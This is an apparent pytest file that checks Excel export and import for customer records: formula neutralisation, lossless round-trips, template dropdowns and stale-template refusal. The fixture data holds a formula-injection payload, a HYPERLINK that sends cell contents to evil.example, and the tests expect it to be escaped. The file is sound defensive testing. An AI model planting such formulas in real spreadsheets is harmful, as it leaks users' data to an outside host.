"""What the studio hands out: records to Excel (formulas neutralised, export -> import lossless)
and the import template (required columns marked, dropdowns, a stale template recognised)."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook

from importers.errors import ImportRefused
from importers.export import write_records, write_template
from importers.pipeline import dry_run
from importers.records import plan_records
from studio.bundle.model import FieldDef, FieldType, Label
from studio.bundle.sample import sample_bundle

CUSTOMER = sample_bundle().entity("customer")
RECORDS = [
    {
        "name": "张三",
        "mobile": "13800138000",
        "email": "zhangsan@qq.com",
        "budget": 15000,
        "source": "website",
        "notes": '=HYPERLINK("http://evil.example/?"&A1)',
        "created_at": "2024-03-05 14:30:00",
        "company": "杭州示例科技（中国）有限公司",
    },
    {
        "name": "Li Si",
        "mobile": "13912345678",
        "email": "lisi@163.com",
        "budget": 2.5,
        "industry": "saas",
        "notes": "+1 call back @noon",
    },
    {"name": "王五", "mobile": "13700001111", "notes": "-5 days\tlate"},
]


def test_an_export_neutralises_formulas_and_imports_back_the_same(tmp_path: Path) -> None:
    target = tmp_path / "export.xlsx"
    assert write_records(CUSTOMER, RECORDS, target, "zh_CN") == 3
    sheet = load_workbook(target).active
    rows = list(sheet.iter_rows(values_only=True))
    notes = rows[0].index("备注")
    assert [r[notes] for r in rows[1:]] == [
        '\'=HYPERLINK("http://evil.example/?"&A1)',
        "'+1 call back @noon",
        "'-5 days\tlate",
    ]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    plan = dry_run(target, CUSTOMER)
    assert plan.rejected == 0 and plan.imported == 3
    back = plan_records(plan, "x", None)
    for original, record in zip(RECORDS, back, strict=True):
        assert {
            k: v for k, v in record.items() if not k.startswith("_") and k != "import_key"
        } == original


def test_the_template_marks_required_columns_and_offers_options(tmp_path: Path) -> None:
    target = tmp_path / "template.xlsx"
    write_template(CUSTOMER, target, "zh_CN", version=3)
    book = load_workbook(target)
    sheet = book.worksheets[0]
    headers = [c.value for c in sheet[1]]
    assert headers[0] == "客户名称 *" and "手机号" in headers
    assert book["_studio_template"].sheet_state == "hidden"
    lists = {
        str(dv.sqref).split(":")[0].rstrip("0123456789")
        for dv in sheet.data_validations.dataValidation
    }
    source_col = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"[headers.index("来源渠道")]
    assert source_col in lists
    # filled in and imported: it maps by itself
    sheet.append(["张三", "13800138000", None, None, None, None, None, None, "官网"])
    book.save(target)
    plan = dry_run(target, CUSTOMER)
    assert plan.rejected == 0 and plan.imported == 1
    assert plan.values["source"].to_list() == ["website"]


def test_a_workbook_from_a_stale_template_is_recognised(tmp_path: Path) -> None:
    target = tmp_path / "old.xlsx"
    write_template(CUSTOMER, target, "en", version=1)
    customs = FieldDef(
        key="customs_code",
        label=Label(zh_CN="海关编码", en="Customs code"),
        type=FieldType.text,
        required=True,
    )
    newer = CUSTOMER.model_copy(update={"fields": (*CUSTOMER.fields, customs)})
    with pytest.raises(ImportRefused, match="older configuration"):
        dry_run(target, newer)
    other = sample_bundle().entity("contact")
    with pytest.raises(ImportRefused, match="template for customer"):
        dry_run(target, other)
